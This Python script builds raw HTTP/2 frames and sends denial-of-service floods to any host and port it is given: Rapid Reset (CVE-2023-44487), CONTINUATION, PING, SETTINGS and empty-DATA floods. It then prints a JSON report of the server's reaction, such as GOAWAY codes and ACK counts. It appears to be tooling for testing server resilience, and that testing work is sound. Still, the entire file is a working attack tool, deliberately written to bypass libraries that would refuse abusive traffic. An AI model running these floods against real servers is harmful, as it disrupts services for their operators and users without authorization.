#!/usr/bin/env python3
"""Send one of the well-known HTTP/2 floods to a server and report how the server reacted.

Standard library only (raw frames and a tiny HPACK encoder), so it does not depend on an HTTP/2 library
that might itself refuse to send malformed or abusive traffic.

Usage:
    python3 scripts/h2/flood.py ATTACK --host HOST --port PORT
        [--tls [--insecure | --cafile PEM]] [--count N] [--seconds S] [--batch N]
        [--authority HOST:PORT] [--path /] [--drain | --no-drain]

ATTACK is one of:
    get           one GET on stream 1; reports the response :status (a health check for other connections)
    rapid-reset   CVE-2023-44487: open a stream (HEADERS, END_STREAM|END_HEADERS) and cancel it at once
                  (RST_STREAM CANCEL), next odd stream id; --count streams (default 20000, 2 frames each)
    continuation  HEADERS on stream 1 without END_HEADERS, then --count CONTINUATION frames (default 100000),
                  each one ~1 KiB literal header field, never END_HEADERS
    ping          --count PING frames (default 100000), 8-byte payload
    settings      --count empty SETTINGS frames (default 100000), each of which the server must ACK
    empty-data    a POST on stream 1, then --count zero-length DATA frames without END_STREAM (default 100000)

Every attack starts with the connection preface, our SETTINGS (push disabled, large windows) and a wait for the
server's SETTINGS (at most 5 s, not part of --seconds), which we ACK. Frames are written in batches of --batch
with one sendall each. Every loop stops at --count, after --seconds (default 10), or as soon as the server
closes the connection or sends GOAWAY.
Between batches the socket is read without blocking (--drain); ping and settings default to --no-drain, the
classic "never read the ACKs" flood, where a closed connection is noticed on send (EPIPE/ECONNRESET). After
the loop the connection is read for up to 4 x --settle s more (until it closes or stays quiet for --settle s, default 0.5) to collect
GOAWAY and ACKs. Without --tls the connection is h2c with prior knowledge; with --tls, ALPN offers only "h2".

Prints one JSON line:
    {"attack", "frames_sent" (frames in fully written batches, preface/SETTINGS not counted),
     "seconds" (duration of the attack loop), "goaway", "goaway_error" (e.g. "ENHANCE_YOUR_CALM" or null),
     "closed_by_peer", "ping_acks", "settings_acks" (including the ACK of our initial SETTINGS),
     "rst_received", "goaway_last_stream_id", "headers_received" (response HEADERS frames),
     "status" (:status of the first response, or null), "send_stalled" (a write could not finish before
     the deadline because the server stopped reading)}
Exit status 0 whenever the attack ran (whatever the server did), 2 on usage or connection errors.
"""
import argparse
import json
import select
import socket
import ssl
import struct
import sys
import time

# Frame types and flags (RFC 9113 section 6).
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
END_STREAM = ACK = 0x1
END_HEADERS, PADDED, PRIORITY = 0x4, 0x8, 0x20
CANCEL = 0x8
ERROR_NAMES = ["NO_ERROR", "PROTOCOL_ERROR", "INTERNAL_ERROR", "FLOW_CONTROL_ERROR", "SETTINGS_TIMEOUT",
               "STREAM_CLOSED", "FRAME_SIZE_ERROR", "REFUSED_STREAM", "CANCEL", "COMPRESSION_ERROR",
               "CONNECT_ERROR", "ENHANCE_YOUR_CALM", "INADEQUATE_SECURITY", "HTTP_1_1_REQUIRED"]
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
BIG_WINDOW = 1 << 30  # so that response bodies never stall on flow control
DEFAULT_COUNT = {"get": 1, "rapid-reset": 20000}  # everything else: 100000
DEFAULT_BATCH = {"rapid-reset": 256, "continuation": 64, "ping": 1024, "settings": 1024, "empty-data": 1024}


def frame(ftype, flags, stream_id, payload=b""):
    """9-byte frame header (24-bit length, type, flags, 31-bit stream id) + payload."""
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", ftype, flags, stream_id) + payload


# --- HPACK (RFC 7541), just enough: literals without indexing and without Huffman, so every header block is
# independent of the dynamic table and can be reused for any number of streams.

def hpack_int(value, prefix_bits, first_byte=0):
    """Integer with an N-bit prefix (section 5.1); first_byte carries the representation's pattern bits."""
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([first_byte | value])
    out, value = [first_byte | limit], value - limit
    while value >= 128:
        out.append((value & 0x7F) | 0x80)
        value >>= 7
    return bytes(out + [value])


def hpack_string(text):
    data = text.encode()
    return hpack_int(len(data), 7) + data  # H bit 0: raw octets, no Huffman


def literal(name, value):
    """Literal Header Field without Indexing (section 6.2.2): 0000 + static name index, or 0 + literal name."""
    if isinstance(name, int):
        return hpack_int(name, 4) + hpack_string(value)
    return b"\x00" + hpack_string(name) + hpack_string(value)


def request_block(method, scheme, path, authority):
    # Static table indexes: 1 :authority, 2 :method, 4 :path, 6 :scheme.
    return literal(2, method) + literal(6, scheme) + literal(4, path) + literal(1, authority)


def hpack_decode_int(data, pos, prefix_bits):
    limit = (1 << prefix_bits) - 1
    value, pos = data[pos] & limit, pos + 1
    shift = 0
    if value == limit:
        while True:
            byte, pos = data[pos], pos + 1
            value += (byte & 0x7F) << shift
            shift += 7
            if not byte & 0x80:
                break
    return value, pos


STATIC_STATUS = {8: 200, 9: 204, 10: 206, 11: 304, 12: 400, 13: 404, 14: 500}  # static table entries 8..14
HUFFMAN_DIGITS = {"00000": "0", "00001": "1", "00010": "2", "011001": "3", "011010": "4", "011011": "5",
                  "011100": "6", "011101": "7", "011110": "8", "011111": "9"}  # RFC 7541 appendix B


def huffman_digits(raw):
    """Decodes a Huffman string made only of digits (enough for a status code); None for anything else."""
    bits, out, i = "".join(format(b, "08b") for b in raw), "", 0
    while True:
        if bits[i:i + 5] in HUFFMAN_DIGITS:
            out, i = out + HUFFMAN_DIGITS[bits[i:i + 5]], i + 5
        elif bits[i:i + 6] in HUFFMAN_DIGITS:
            out, i = out + HUFFMAN_DIGITS[bits[i:i + 6]], i + 6
        else:
            break
    rest = bits[i:]
    return out if len(rest) < 8 and set(rest) <= {"1"} else None  # padding: < 8 bits of EOS (all ones)


def decode_status(block):
    """The :status of a response header block (its first field), or None if it cannot be read without a
    dynamic table. Handles an indexed static entry (nginx sends 0x88 for 200) and literal ones."""
    try:
        pos = 0
        while block[pos] & 0xE0 == 0x20:  # dynamic table size updates come first
            _, pos = hpack_decode_int(block, pos, 5)
        first = block[pos]
        if first & 0x80:  # indexed field
            index, _ = hpack_decode_int(block, pos, 7)
            return STATIC_STATUS.get(index)
        index, pos = hpack_decode_int(block, pos, 6 if first & 0x40 else 4)  # literal, indexed name
        if not 8 <= index <= 14:
            return None
        huffman = block[pos] & 0x80
        length, pos = hpack_decode_int(block, pos, 7)
        raw = block[pos:pos + length]
        text = huffman_digits(raw) if huffman else raw.decode("ascii", "replace")
        return int(text) if text and text.isdigit() else None
    except IndexError:
        return None


class Connection:
    """A socket plus the state learned from the frames the server sent."""

    def __init__(self, sock):
        self.sock, self.buf, self.out = sock, b"", b""
        self.closed = self.goaway = self.stalled = self.not_h2 = self.server_settings = False
        self.goaway_error = self.goaway_last_stream = self.status = None
        self.ping_acks = self.settings_acks = self.rst_received = self.headers_received = 0
        self.stream1_done = False  # stream 1 ended (END_STREAM or RST_STREAM) -- for "get"

    @property
    def stopped(self):
        return self.closed or self.goaway

    def send(self, data, deadline):
        """sendall, bounded by the deadline; False once the peer is gone or the write stalled."""
        if self.closed:
            return False
        try:
            self.sock.settimeout(max(0.1, deadline - time.monotonic()))
            self.sock.sendall(data)
            return True
        except (socket.timeout, ssl.SSLWantWriteError):
            self.stalled = True
        except OSError:  # EPIPE, ECONNRESET, TLS alerts/EOF: closed by peer
            self.closed = True
        return False

    def poll(self):
        """Reads whatever is available without blocking and handles complete frames; True if anything came."""
        chunks = [self.buf]
        self.sock.settimeout(0)
        try:
            while not self.closed:
                chunk = self.sock.recv(65536)
                if not chunk:
                    self.closed = True
                    break
                chunks.append(chunk)
        except (BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError):
            pass
        except OSError:
            self.closed = True
        got = len(chunks) > 1
        self.buf = b"".join(chunks)
        self._parse()
        if self.out and not self.closed:  # ACKs of the server's SETTINGS/PINGs
            out, self.out = self.out, b""
            self.send(out, time.monotonic() + 1)
        return got

    def wait(self, timeout):
        """Waits up to timeout for data, then polls."""
        pending = isinstance(self.sock, ssl.SSLSocket) and self.sock.pending()
        if not pending and not self.closed:
            select.select([self.sock], [], [], max(0.0, timeout))
        return self.poll()

    def _parse(self):
        if self.buf.startswith(b"HTTP/"):  # an HTTP/1 server answering our preface
            self.not_h2 = self.closed = True
            return
        buf, pos = self.buf, 0
        while len(buf) - pos >= 9:
            length = int.from_bytes(buf[pos:pos + 3], "big")
            if len(buf) - pos < 9 + length:
                break
            ftype, flags, stream_id = struct.unpack_from(">BBI", buf, pos + 3)
            self._handle(ftype, flags, stream_id & 0x7FFFFFFF, buf[pos + 9:pos + 9 + length])
            pos += 9 + length
        self.buf = buf[pos:]  # keep an incomplete frame for the next read

    def _handle(self, ftype, flags, stream_id, payload):
        if ftype == SETTINGS:
            if flags & ACK:
                self.settings_acks += 1
            else:
                self.server_settings = True
                self.out += frame(SETTINGS, ACK, 0)
        elif ftype == PING:
            if flags & ACK:
                self.ping_acks += 1
            else:
                self.out += frame(PING, ACK, 0, payload)
        elif ftype == GOAWAY and len(payload) >= 8:
            last, code = struct.unpack(">II", payload[:8])
            self.goaway, self.goaway_last_stream = True, last & 0x7FFFFFFF
            self.goaway_error = ERROR_NAMES[code] if code < len(ERROR_NAMES) else hex(code)
        elif ftype == RST_STREAM:
            self.rst_received += 1
            self.stream1_done |= stream_id == 1
        elif ftype == HEADERS:
            self.headers_received += 1
            if self.headers_received == 1:  # only the first block can be read without a dynamic table
                pad = payload[0] if flags & PADDED and payload else 0
                start = (1 if flags & PADDED else 0) + (5 if flags & PRIORITY else 0)
                self.status = decode_status(payload[start:len(payload) - pad])
            self.stream1_done |= stream_id == 1 and bool(flags & END_STREAM)
        elif ftype == DATA:
            self.stream1_done |= stream_id == 1 and bool(flags & END_STREAM)


def fail(message):
    print(f"flood.py: error: {message}", file=sys.stderr)
    sys.exit(2)


def connect(args):
    try:
        raw = socket.create_connection((args.host, args.port), timeout=5)
    except OSError as error:
        fail(f"cannot connect to {args.host}:{args.port}: {error}")
    raw.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    if not args.tls:
        return raw
    context = ssl.create_default_context(cafile=args.cafile)
    if args.insecure:
        context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    try:
        sock = context.wrap_socket(raw, server_hostname=args.authority.rsplit(":", 1)[0].strip("[]"))
    except (OSError, ssl.SSLError) as error:
        fail(f"TLS handshake failed: {error}")
    if sock.selected_alpn_protocol() != "h2":
        fail(f"server did not select h2 with ALPN (got {sock.selected_alpn_protocol()!r})")
    return sock


def handshake(conn):
    """Preface + our SETTINGS (ENABLE_PUSH 0, INITIAL_WINDOW_SIZE big) + a connection WINDOW_UPDATE, then
    waits up to 5 s for the server's SETTINGS (poll() ACKs them)."""
    settings = struct.pack(">HIHI", 0x2, 0, 0x4, BIG_WINDOW)
    deadline = time.monotonic() + 5
    conn.send(PREFACE + frame(SETTINGS, 0, 0, settings)
              + frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", BIG_WINDOW - 65535)), deadline)
    while not conn.server_settings and not conn.closed and time.monotonic() < deadline:
        conn.wait(deadline - time.monotonic())
    if conn.not_h2:
        fail("the server answered with HTTP/1 (no h2c prior knowledge on this port?)")
    if not conn.server_settings:
        fail("no SETTINGS from the server within 5 s" + (" (connection closed)" if conn.closed else ""))


def batch_maker(args, scheme):
    """Returns (setup bytes, setup frame count, make(index, n) -> (bytes, frames)) for the attack; index
    counts units of --count (streams for rapid-reset, frames otherwise)."""
    get_block = request_block("GET", scheme, args.path, args.authority)
    if args.attack == "rapid-reset":
        rst = struct.pack(">I", CANCEL)

        def make(index, n):
            ids = range(2 * index + 1, 2 * (index + n) + 1, 2)  # streams 1, 3, 5, ...
            return b"".join(frame(HEADERS, END_HEADERS | END_STREAM, s, get_block) + frame(RST_STREAM, 0, s, rst)
                            for s in ids), 2 * n
        return b"", 0, make
    if args.attack == "continuation":
        # HEADERS with END_STREAM but not END_HEADERS; every CONTINUATION holds one complete ~1 KiB field.
        setup = frame(HEADERS, END_STREAM, 1, get_block)
        chunk = frame(CONTINUATION, 0, 1, literal("x-flood", "a" * 1012))  # 1024-byte payload
        return setup, 1, lambda index, n: (chunk * n, n)
    if args.attack == "ping":
        return b"", 0, lambda index, n: (b"".join(frame(PING, 0, 0, struct.pack(">Q", index + i))
                                                  for i in range(n)), n)
    if args.attack == "settings":
        empty = frame(SETTINGS, 0, 0)
        return b"", 0, lambda index, n: (empty * n, n)
    if args.attack == "empty-data":
        setup = frame(HEADERS, END_HEADERS, 1, request_block("POST", scheme, args.path, args.authority))
        empty = frame(DATA, 0, 1)
        return setup, 1, lambda index, n: (empty * n, n)
    raise AssertionError(args.attack)


def main():
    parser = argparse.ArgumentParser(description="HTTP/2 flood generator (see the module docstring).")
    parser.add_argument("attack", choices=["get", "rapid-reset", "continuation", "ping", "settings", "empty-data"])
    parser.add_argument("--host", required=True)
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--tls", action="store_true", help="TLS with ALPN h2 (default: h2c prior knowledge)")
    parser.add_argument("--insecure", action="store_true", help="with --tls: do not verify the certificate")
    parser.add_argument("--cafile", help="with --tls: PEM file of trusted CA certificates")
    parser.add_argument("--count", type=int, help="streams (rapid-reset) or frames (others) to send")
    parser.add_argument("--seconds", type=float, default=10.0, help="time limit of the attack loop (10)")
    parser.add_argument("--batch", type=int, help="units written per sendall")
    parser.add_argument("--authority", help=":authority (default HOST:PORT); its host is also the TLS SNI")
    parser.add_argument("--path", default="/")
    parser.add_argument("--settle", type=float, default=0.5,
                        help="after the flood, read until this many seconds pass without a frame (at most 4x)")
    parser.add_argument("--drain", action=argparse.BooleanOptionalAction, default=None,
                        help="read between batches (default: yes, except for ping and settings)")
    args = parser.parse_args()
    if (args.insecure or args.cafile) and not args.tls:
        parser.error("--insecure and --cafile need --tls")
    if args.seconds <= 0 or (args.count is not None and args.count < 1) or (args.batch is not None and args.batch < 1):
        parser.error("--seconds, --count and --batch must be positive")
    host = f"[{args.host}]" if ":" in args.host else args.host  # an IPv6 literal needs brackets
    args.authority = args.authority or f"{host}:{args.port}"
    count = args.count or DEFAULT_COUNT.get(args.attack, 100000)
    drain = args.drain if args.drain is not None else args.attack not in ("ping", "settings")
    scheme = "https" if args.tls else "http"

    conn = Connection(connect(args))
    handshake(conn)
    start = time.monotonic()
    deadline = start + args.seconds
    frames_sent = 0

    if args.attack == "get":
        if conn.send(frame(HEADERS, END_HEADERS | END_STREAM, 1,
                           request_block("GET", scheme, args.path, args.authority)), deadline):
            frames_sent = 1
        while not (conn.stream1_done or conn.stopped) and time.monotonic() < deadline:
            conn.wait(min(0.2, deadline - time.monotonic()))
    else:
        setup, setup_frames, make = batch_maker(args, scheme)
        if setup and conn.send(setup, deadline):
            frames_sent += setup_frames
        batch = args.batch or DEFAULT_BATCH[args.attack]
        done = 0
        if args.attack == "rapid-reset":
            count = min(count, 2 ** 30 - 1)  # stream ids stay below 2^31
        while done < count and not conn.stopped and not conn.stalled and time.monotonic() < deadline:
            n = min(batch, count - done)
            data, frames = make(done, n)
            if not conn.send(data, deadline):
                break
            done, frames_sent = done + n, frames_sent + frames
            if drain:
                conn.poll()
    elapsed = time.monotonic() - start

    # Collect GOAWAY/ACKs still on their way: until closed, --settle seconds of quiet, or 4 x --settle. A busy
    # server may still be working through the batch when the last frame is sent.
    end, quiet_since = time.monotonic() + 4 * args.settle, time.monotonic()
    while not conn.closed and time.monotonic() < end and time.monotonic() - quiet_since < args.settle:
        if conn.wait(0.1):
            quiet_since = time.monotonic()
    conn.sock.close()

    print(json.dumps({
        "attack": args.attack, "frames_sent": frames_sent, "seconds": round(elapsed, 3),
        "goaway": conn.goaway, "goaway_error": conn.goaway_error, "closed_by_peer": conn.closed,
        "ping_acks": conn.ping_acks, "settings_acks": conn.settings_acks, "rst_received": conn.rst_received,
        "goaway_last_stream_id": conn.goaway_last_stream, "headers_received": conn.headers_received,
        "status": conn.status, "send_stalled": conn.stalled,
    }))


if __name__ == "__main__":
    main()
